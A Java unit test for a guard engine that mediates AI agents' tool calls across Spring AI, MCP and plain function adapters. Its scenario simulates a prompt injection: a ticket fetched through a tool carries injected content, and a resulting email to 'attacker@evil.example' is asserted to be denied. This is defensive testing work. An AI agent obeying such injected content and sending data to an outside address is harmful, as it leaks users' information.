package io.ape.springai;

import static org.assertj.core.api.Assertions.assertThat;

import io.ape.api.CallStatus;
import io.ape.api.GuardedCallResult;
import io.ape.api.Provenance;
import io.ape.engine.AgentSession;
import io.ape.engine.ApeEngine;
import io.ape.engine.SessionOptions;
import io.modelcontextprotocol.server.McpServerFeatures.SyncToolSpecification;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.Tool;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import org.junit.jupiter.api.Test;
import org.springframework.ai.support.ToolCallbacks;
import org.springframework.ai.tool.ToolCallback;

/**
 * Several tool adapters on one class path — this module's {@code spring-ai}, ape-mcp-sdk's
 * {@code mcp-sdk} (an optional dependency, present in the tests) and ape-core's
 * {@code function} — are not a configuration error: each supports its own type, and
 * {@code engine.adaptTool} picks the one that does. A Spring AI callback registered this way
 * runs only as a guarded call, with the bound parameters and no {@code ToolContext}.
 */
class ToolAdaptersOnOneClassPathTest {
  static final String SEND_TO_BOB = SpringAiAgentTest.SEND_TO_BOB;

  static ToolCallback named(TicketTools tools, String name) {
    for (ToolCallback c : ToolCallbacks.from(tools)) {
      if (c.getToolDefinition().name().equals(name)) {
        return c;
      }
    }
    throw new IllegalArgumentException(name);
  }

  @Test
  void eachFrameworksToolIsAdaptedByItsOwnAdapterOnOneEngine() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    List<Map<String, Object>> mcpCalls = new CopyOnWriteArrayList<>();
    try (ApeEngine engine = Engines.builder().build()) {
      // the ticket comes from an MCP tool, the e-mail goes through a Spring AI callback
      engine.registerTool("getTicket", engine.adaptTool(new SyncToolSpecification(
          Tool.builder().name("getTicket").inputSchema(Map.of("type", "object")).build(),
          (exchange, request) -> {
            mcpCalls.add(request.arguments());
            return CallToolResult.builder().addTextContent(TicketTools.INJECTED).build();
          })));
      engine.registerTool("sendEmail", engine.adaptTool(named(tools, "sendEmail")));
      // a @Tool method that needs the application's ToolContext: the adapter gives none
      engine.registerTool("lookup", engine.adaptTool(named(tools, "getTicket")));
      Function<Map<String, Object>, Object> crash = args -> {
        throw new IllegalStateException("function adapter ran");
      };
      engine.registerTool("crash", engine.adaptTool(crash));

      AgentSession session = engine.openSession(SessionOptions.forUser("alice"));
      session.recordUserMessage(SpringAiAgentTest.USER);
      GuardedCallResult ticket = session.call("getTicket", Map.of("id", "4711"));
      assertThat(ticket.status()).isEqualTo(CallStatus.EXECUTED);
      assertThat(ticket.value().value()).isEqualTo(TicketTools.INJECTED);
      assertThat(mcpCalls).containsExactly(Map.of("id", "4711"));

      assertThat(session.call("sendEmail", Map.of("to", "attacker@evil.example",
          "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed."))
          .status()).isEqualTo(CallStatus.DENIED);
      GuardedCallResult sent = session.call("sendEmail", Map.of("to", "bob@acme.com",
          "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed."));
      assertThat(sent.status()).isEqualTo(CallStatus.EXECUTED);
      assertThat(tools.sent).containsExactly(
          "bob@acme.com|Ticket 4711|The printer on floor 3 is being fixed.");
      assertThat(session.provenance().label("attacker@evil.example"))
          .isEqualTo(Provenance.EXTERNAL_UNTRUSTED);

      GuardedCallResult lookup = session.call("lookup", Map.of("id", "4711"));
      assertThat(lookup.status()).isEqualTo(CallStatus.TOOL_FAILED);
      assertThat(lookup.error().getCause()).hasMessageContaining("ToolContext is required");
      assertThat(tools.read).isEmpty();
      GuardedCallResult crashed = session.call("crash", Map.of("reason", "x"));
      assertThat(crashed.status()).isEqualTo(CallStatus.TOOL_FAILED);
      assertThat(crashed.error().getCause()).hasMessage("function adapter ran");
    }
  }
}
